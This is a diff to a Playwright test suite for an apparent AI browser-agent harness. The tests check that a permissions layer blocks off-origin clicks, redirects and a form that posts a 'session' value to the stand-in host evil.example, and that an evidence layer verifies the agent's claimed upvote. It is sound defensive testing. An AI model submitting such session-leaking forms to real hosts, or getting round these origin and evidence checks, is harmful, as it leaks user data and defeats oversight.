@@ -1,3 +1,5 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { BrowserContext } from '@playwright/test';
 import { upvoteFirstPost } from '../src/eval/tasks.ts';
 import type { Layer } from '../src/harness/layer.ts';
@@ -125,6 +127,50 @@ test.describe('permissions', () => {
     const { model } = turnsDouble([call('navigate', { url: EVIL }), call('navigate', { url: NEWS }), finish(false, 'done')]);
     const result = await run(context, model, [permissions({ origins: ['https://evil.example'] })]);
     expect(events(result, 'harness_denied').map((event) => event.reason)).toEqual([`navigate to ${HN_ORIGIN} is outside the allowed origins (https://evil.example)`]);
+  });
+});
+
+test.describe('permissions hold on the browser\'s traffic, however the page would leave', () => {
+  test('a click on the story\'s title link (off HN) is blocked and recorded; the browser stays on HN', async ({ context }) => {
+    const turns = [call('navigate', { url: NEWS }), call('click', { selector: `tr.athing[id="${FIRST}"] .titleline > a` }), call('current_url'), finish(false, 'stayed')];
+    const result = await run(context, turnsDouble(turns).model, [permissions()]);
+    const denied = events(result, 'harness_denied');
+    expect(denied).toEqual([expect.objectContaining({ layer: 'permissions', tool: 'click', reason: expect.stringMatching(/^the page's navigation to https?:\/\/[^ ]+ is outside the allowed origins/) })]);
+    expect(denied[0]!.reason).not.toContain(HN_ORIGIN + ' is outside');
+    expect(events(result, 'tool_result').find((event) => event.name === 'current_url')!.output).toEqual({ url: NEWS });
+  });
+
+  test('a form posting off the allowed origins is blocked (nothing reaches it); a redirect off them is denied and taken back', async ({ context }) => {
+    const hits = await attacker(context);
+    const landed: string[] = [];
+    const server = createServer((request, response) => {
+      if (request.url === '/form') {
+        response.setHeader('content-type', 'text/html');
+        response.end(`<title>Form</title><form action="${EVIL}" method="post"><input name="q" value="session"><button id="send">Send</button></form>`);
+      } else if (request.url === '/go') {
+        response.writeHead(302, { location: `http://localhost:${port}/landed` }).end();
+      } else {
+        landed.push(request.url ?? '');
+        response.end('landed');
+      }
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const port = (server.address() as AddressInfo).port;
+    const local = `http://127.0.0.1:${port}`;
+    try {
+      const turns = [call('navigate', { url: `${local}/form` }), call('click', { selector: '#send' }), call('navigate', { url: `${local}/go` }), call('current_url'), finish(false, 'stayed')];
+      const result = await run(context, turnsDouble(turns).model, [permissions({ origins: [HN_ORIGIN, local] })]);
+      expect(events(result, 'harness_denied').map((event) => [event.tool, event.reason.replace(/ is outside the allowed.*/, '')])).toEqual([
+        ['click', "the page's navigation to https://evil.example"],
+        ['navigate', `the page went to http://localhost:${port} (a redirect), outside the allowed origins (${HN_ORIGIN}, ${local}); the harness took it back to ${local}/form`],
+      ]);
+      expect(hits).toEqual([]);
+      // Playwright cannot intercept a redirect's hop: its request was sent, but the browser does not stay there.
+      expect(landed).toEqual(['/landed']);
+      expect(events(result, 'tool_result').find((event) => event.name === 'current_url')!.output).toEqual({ url: `${local}/form` });
+    } finally {
+      server.close();
+    }
   });
 });
 
@@ -272,9 +318,10 @@ test.describe('evidence', () => {
     const clicked = await run(context, 'scripted:diligent', [evidence()], recordedHn({ startLoggedIn: true }));
     expect(clicked).toMatchObject({ claimed: true, actual: true });
     expect(events(clicked, 'harness_evidence')).toEqual([expect.objectContaining({ ok: true, cited: ['call_3_0', 'call_5_0'], detail: `call_3_0 shows story ${FIRST} upvoted` })]);
-    const relisted = await run(context, 'scripted:diligent', ['login', evidence(), observations()]);
-    expect(relisted).toMatchObject({ claimed: true, actual: true });
-    expect(events(relisted, 'harness_evidence')).toEqual([expect.objectContaining({ ok: true, cited: ['call_5_0'], detail: `call_5_0 shows story ${FIRST} upvoted` })]);
+    // After the login wall the harness only signs in: the double lists again, votes itself and cites that click.
+    const revoted = await run(context, 'scripted:diligent', ['login', evidence(), observations()]);
+    expect(revoted).toMatchObject({ claimed: true, actual: true });
+    expect(events(revoted, 'harness_evidence')).toEqual([expect.objectContaining({ ok: true, cited: ['call_6_0', 'call_8_0'], detail: `call_6_0 shows story ${FIRST} upvoted` })]);
   });
 
   test('citing calls never made, or calls that show no vote that holds, is rejected', async ({ context }) => {
